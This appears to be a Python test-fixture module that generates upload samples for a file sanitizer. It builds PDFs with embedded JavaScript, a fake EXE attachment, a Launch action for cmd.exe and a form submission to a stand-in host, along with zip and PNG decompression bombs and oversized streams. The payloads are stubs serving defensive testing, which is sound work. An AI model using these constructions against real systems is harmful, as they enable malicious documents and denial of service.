"""The corpus: what people send, and what they should not. Nothing is downloaded, nothing lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200 + b"This program cannot be run in DOS mode."
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 100


def image(formato: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    salida = io.BytesIO()
    Image.new(mode, size, 200 if mode == "L" else None).save(salida, formato, **options)
    return salida.getvalue()


def photo_lying_down() -> bytes:
    """As a phone takes it: turned by its metadata, which also say where and with what."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn a quarter
    exif[0x010F] = "Telefono de Luz"
    exif.get_ifd(0x8825)[2] = (4.0, 35.0, 56.0)
    return image(size=(60, 40), exif=exif, comment=b"en mi casa")


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **options: Any) -> bytes:
    documento = pikepdf.new()
    for _ in range(pages):
        documento.add_blank_page(page_size=(100, 140))
    if change:
        change(documento)
    salida = io.BytesIO()
    documento.save(salida, **options)
    return salida.getvalue()


def encrypted_pdf(user: str = "secreto") -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner="otro"))


def _script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('hola')")


def _open_action(documento: pikepdf.Pdf) -> None:
    documento.Root.OpenAction = _script()


def _additional_actions(documento: pikepdf.Pdf) -> None:
    documento.pages[0].AA = pikepdf.Dictionary(O=_script())


def _named_script(documento: pikepdf.Pdf) -> None:
    nombres = pikepdf.Array(["inicio", documento.make_indirect(_script())])
    documento.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=nombres))


def _embedded(documento: pikepdf.Pdf) -> None:
    documento.attachments["factura.exe"] = EXE


def _link(accion: dict[str, Any]) -> Callable[[pikepdf.Pdf], None]:
    def change(documento: pikepdf.Pdf) -> None:
        boton = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**accion)
        )
        documento.pages[0].Annots = pikepdf.Array([documento.make_indirect(boton)])

    return change


def _annotation(subtipo: str) -> Callable[[pikepdf.Pdf], None]:
    def change(documento: pikepdf.Pdf) -> None:
        nota = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtipo), Rect=[0, 0, 9, 9])
        documento.pages[0].Annots = pikepdf.Array([nota])

    return change


def _xfa(documento: pikepdf.Pdf) -> None:
    documento.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=documento.make_stream(b"<xdp/>"))


def _nested(documento: pikepdf.Pdf) -> None:
    """A script in an action that follows another, inside an array inside a dictionary that nothing names."""
    dentro = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([_script()]))
    documento.Root.PieceInfo = pikepdf.Dictionary(Cosa=pikepdf.Array([pikepdf.Array([dentro])]))


ACTIVOS: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
    "al abrir": (_open_action, "OpenAction"),
    "en una página": (_additional_actions, "AA"),
    "con nombre": (_named_script, "JavaScript"),
    "un programa adentro": (_embedded, "EmbeddedFiles"),
    "lanza un programa": (_link({"S": pikepdf.Name.Launch, "F": "cmd.exe"}), "Launch"),
    "envía lo escrito": (_link({"S": pikepdf.Name.SubmitForm, "F": "http://mala.example"}), "SubmitForm"),
    "trae datos": (_link({"S": pikepdf.Name.ImportData, "F": "x.fdf"}), "ImportData"),
    "abre otro archivo": (_link({"S": pikepdf.Name.GoToR, "F": "otro.pdf", "D": [0]}), "GoToR"),
    "abre uno de adentro": (_link({"S": pikepdf.Name.GoToE, "D": [0]}), "GoToE"),
    "video": (_annotation("/RichMedia"), "RichMedia"),
    "archivo prendido a la página": (_annotation("/FileAttachment"), "FileAttachment"),
    "formulario XFA": (_xfa, "XFA"),
    "anidado": (_nested, "JavaScript"),
}


def crowded(documento: pikepdf.Pdf) -> None:
    documento.Root.PieceInfo = pikepdf.Array([documento.make_indirect(pikepdf.Dictionary()) for _ in range(20_001)])


def zip_bomb() -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as archivo:
        archivo.writestr("ceros", b"\0" * (5 << 20))
    return salida.getvalue()


def _chunk(clase: bytes, datos: bytes) -> bytes:
    return struct.pack(">I", len(datos)) + clase + datos + struct.pack(">I", zlib.crc32(clase + datos))


def png_bomb(ancho: int = 30_000, alto: int = 30_000) -> bytes:
    """Nine hundred million points in a hundred thousand bytes."""
    prensa = zlib.compressobj(9)
    renglon = b"\0" * (ancho // 8 + 2)
    datos = b"".join(prensa.compress(renglon) for _ in range(min(alto, 3000))) + prensa.flush()
    cabeza = struct.pack(">IIBBBBB", ancho, alto, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", cabeza) + _chunk(b"IDAT", datos) + _chunk(b"IEND", b"")


class Manguera:
    """So many bytes, made as they are read: `entregado` says how many were asked for."""

    def __init__(self, cuantos: int, inicio: bytes = b"%PDF-1.7\n", final: bytes = b"") -> None:
        self._inicio, self._final = inicio, final
        self._faltan = cuantos
        self.entregado = 0

    def read(self, size: int = -1, /) -> bytes:
        trozo = b""
        if self._inicio:
            trozo, self._inicio = self._inicio[:size], self._inicio[size:]
        elif self._faltan:
            trozo = b"\0" * min(size, self._faltan)
            self._faltan -= len(trozo)
        elif self._final:
            trozo, self._final = self._final[:size], self._final[size:]
        self.entregado += len(trozo)
        return trozo

    def readline(self, size: int = -1, /) -> bytes:
        raise NotImplementedError("a body is read in pieces")
